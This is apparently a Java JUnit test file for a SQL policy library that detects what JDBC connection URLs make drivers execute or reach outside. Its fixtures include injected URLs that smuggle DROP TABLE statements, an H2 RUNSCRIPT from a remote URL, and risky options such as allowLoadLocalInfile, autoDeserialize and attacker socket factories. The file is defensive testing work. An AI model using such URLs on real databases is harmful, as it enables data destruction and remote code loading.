package dev.interlock.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.interlock.sql.Effect;
import dev.interlock.sql.ObjectName;
import dev.interlock.sql.SqlKind;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ConnectPropertyTest {
    @ParameterizedTest
    @CsvSource(delimiter = '>', quoteCharacter = '"', textBlock = """
            jdbc:h2:mem:x;INIT=DROP TABLE a\\;SELECT 1                     > init > DROP TABLE a;SELECT 1
            jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://e/x'                 > init > RUNSCRIPT FROM 'http://e/x'
            jdbc:h2:mem:x;MODE=MySQL;SCHEMA=APP                            > schema > SET schema APP
            jdbc:h2:mem:x;COLLATION=a b                                    > collation > SET collation a b
            jdbc:h2:mem:x;REFERENTIAL_INTEGRITY=FALSE                      > referential_integrity > SET referential_integrity FALSE
            jdbc:mariadb://h/d?initSql=DROP TABLE a                        > initsql > DROP TABLE a
            jdbc:mariadb://h/d?sessionVariables=sql_mode=''                > sessionvariables > SET sql_mode=''
            jdbc:mysql://h/d?sessionVariables=sql_mode%3DANSI_QUOTES       > sessionvariables > SET sql_mode=ANSI_QUOTES
            jdbc:mysql://h/d?createDatabaseIfNotExist=true                 > createdatabaseifnotexist > CREATE DATABASE IF NOT EXISTS `d`
            jdbc:mysql://h/d?connectionCollation=a;DROP TABLE b            > connectioncollation > SET NAMES utf8mb4 COLLATE a;DROP TABLE b
            jdbc:postgresql://h/d?options=-c%20search_path%3Devil          > options > SET search_path = 'evil'
            jdbc:postgresql://h/d?options=-csearch_path=it's               > options > SET search_path = 'it''s'
            jdbc:postgresql://h/d?options=--default-x=1                    > options > SET default_x = '1'
            jdbc:postgresql://h/d?options=-c%20a.b%3Dc%5C%20d              > options > SET a.b = 'c d'
            jdbc:postgresql://h/d?currentSchema=app,public                 > currentschema > SET search_path = 'app,public'
            jdbc:sqlite:x?user_version=7                                   > user_version > PRAGMA user_version = 7
            jdbc:sqlite:x?journal_mode=wal;drop table a                    > journal_mode > PRAGMA journal_mode = wal;drop table a
            jdbc:foo:x                                                     > ~ > ~
            """)
    void findsWhatADriverExecutes(String url, String name, String sql) {
        if (name.equals("~")) {
            assertThat(ConnectProperty.of(url, Map.of("user", "x"))).isEmpty();
        } else {
            assertThat(ConnectProperty.of(url, Map.of("user", "x"))).containsExactly(new ConnectProperty(name, sql));
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '>', textBlock = """
            jdbc:postgresql://h/d?socketFactory=evil.F      > socketfactory
            jdbc:postgresql://h/d?sslfactory=evil.F         > sslfactory
            jdbc:postgresql://h/d?loggerFile=/etc/x         > loggerfile
            jdbc:postgresql://h/d?replication=database      > replication
            jdbc:postgresql://h/d?options=-f                > options
            jdbc:postgresql://h/d?options=-c                > options
            jdbc:mysql://h/d?allowLoadLocalInfile=true      > allowloadlocalinfile
            jdbc:mysql://h/d?allowLoadLocalInfileInPath=/   > allowloadlocalinfileinpath
            jdbc:mysql://h/d?allowUrlInLocalInfile=TRUE     > allowurlinlocalinfile
            jdbc:mysql://h/d?autoDeserialize=yes            > autodeserialize
            jdbc:mysql://h/d?queryInterceptors=evil.Q       > queryinterceptors
            jdbc:mysql://h/d?socksProxyHost=evil            > socksproxyhost
            jdbc:mariadb://h/d?allowLocalInfile=true        > allowlocalinfile
            jdbc:mariadb://h/d?socketFactory=evil.F         > socketfactory
            jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='evil'    > database_event_listener
            jdbc:sqlite:x?enable_load_extension=true        > enable_load_extension
            jdbc:sqlite::resource:http://evil/x.db          > resource
            jdbc:sqlserver://h;socketFactoryClass=evil.F    > socketfactoryclass
            """)
    void findsWhatReachesOutside(String url, String name) {
        ConnectProperty property = new ConnectProperty(name, null);

        assertThat(ConnectProperty.of(url, Map.of())).containsExactly(property);
        assertThat(property.outside().effects()).containsExactly(new Effect(SqlKind.OUTSIDE, ObjectName.of(name)));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?ssl=true&ApplicationName=x&currentSchema=public&options=",
                "jdbc:postgresql://h/d?sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
                "jdbc:mysql://h/d?useSSL=false&allowLoadLocalInfile=false&logger=Slf4JLogger&sessionVariables=",
                "jdbc:mariadb://h/d?useServerPrepStmts=true",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;NON_KEYWORDS=USER,VALUE",
                "jdbc:h2:mem:x;SCHEMA=PUBLIC",
                "jdbc:sqlite:x?journal_mode=WAL&busy_timeout=5000&foreign_keys=on",
                "jdbc:sqlserver://h;encrypt=true;databaseName=x",
            })
    void leavesTheUsualConnectionAlone(String url) {
        assertThat(ConnectProperty.of(url, Map.of("user", "ana", "password", "secret")))
                .isEmpty();
    }

    @Test
    void looksAtThePropertiesBesideTheUrlToo() {
        assertThat(ConnectProperty.of("jdbc:h2:mem:x", Map.of("InIt", "DROP TABLE a")))
                .containsExactly(new ConnectProperty("init", "DROP TABLE a"));
    }
}
